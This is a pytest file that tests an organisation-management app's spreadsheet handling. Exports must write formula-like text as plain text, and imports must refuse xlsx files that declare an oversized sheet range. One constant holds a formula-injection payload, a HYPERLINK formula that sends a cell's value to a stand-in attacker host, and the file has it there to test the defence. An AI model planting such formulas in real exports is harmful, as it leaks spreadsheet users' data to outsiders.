"""Issue 11 items 2 and 3: text that looks like a formula is written as text in every export,
and an import refuses a sheet whose declared size is beyond the caps before reading it."""

import io
import re
import time
import zipfile
from urllib.parse import quote

import pytest
from openpyxl import Workbook, load_workbook

from liangxin.core.exporting import FORMULA_TRIGGERS, disposition, write_xlsx
from liangxin.core.importing import ImportFileError, read_table
from liangxin.orgs.models import Organization
from tests import factories as f

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"查看")'


@pytest.mark.parametrize("first", FORMULA_TRIGGERS)
def test_text_starting_like_a_formula_is_written_as_text(first):
    value = f"{first}1+2 支部会议"
    buf = io.BytesIO()
    write_xlsx(buf, title="会议", columns=["议题"], rows=[[value]])
    cell = load_workbook(io.BytesIO(buf.getvalue())).active["A2"]
    # some XML readers give a carriage return back as a line feed; the text is kept
    assert cell.value in (value, value.replace("\r", "\n"))
    assert cell.data_type == "s" and cell.quotePrefix


def test_a_hyperlink_formula_in_an_organization_name_is_exported_as_text(world, login):
    f.OrganizationFactory(committee=world.nonpublic, name=HYPERLINK)
    response = login(world.users.county).get("/orgs/?export=xlsx")
    ws = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value == HYPERLINK]
    assert cells and all(c.data_type == "s" for c in cells)


def test_numbers_and_dates_stay_real_values():
    buf = io.BytesIO()
    write_xlsx(buf, title="数", columns=["数"], rows=[[-5]])
    cell = load_workbook(io.BytesIO(buf.getvalue())).active["A2"]
    assert cell.value == -5 and cell.data_type == "n"


def _declaring(ref: str) -> bytes:
    """A tiny valid xlsx whose sheet declares the dimension `ref`."""
    wb = Workbook()
    wb.active.append(["名称", "统一社会信用代码"])
    wb.active.append(["保德县华鑫煤业有限公司", "x"])
    raw = io.BytesIO()
    wb.save(raw)
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(raw.getvalue())) as src,
        zipfile.ZipFile(out, "w") as dst,
    ):
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(
                    rb'<dimension ref="[^"]+"', f'<dimension ref="{ref}"'.encode(), data
                )
            dst.writestr(item, data)
    return out.getvalue()


def test_an_import_declaring_the_whole_sheet_is_refused_at_once():
    content = _declaring("A1:XFD1048576")
    assert len(content) < 10_000
    started = time.monotonic()
    with pytest.raises(ImportFileError, match="文件声明的表格范围过大"):
        read_table(content, "组织.xlsx")
    assert time.monotonic() - started < 5


def test_the_import_page_shows_the_chinese_message_and_stores_nothing(world, login):
    before = Organization.objects.count()
    upload = io.BytesIO(_declaring("A1:XFD10000"))
    upload.name = "组织.xlsx"
    response = login(world.users.county).post("/orgs/import/", {"file": upload})
    assert response.status_code == 200
    assert "文件声明的表格范围过大" in response.content.decode()
    assert Organization.objects.count() == before


def test_a_sheet_declared_within_the_caps_is_still_read():
    rows = read_table(_declaring("A1:B2"), "组织.xlsx")
    assert rows[1][0] == "保德县华鑫煤业有限公司"


def test_downloads_are_named_in_chinese_with_an_ascii_fallback():
    header = disposition("张三-2025年度履职档案.pdf", inline=True)
    assert header.startswith('inline; filename="')
    assert f"filename*=UTF-8''{quote('张三-2025年度履职档案.pdf')}" in header
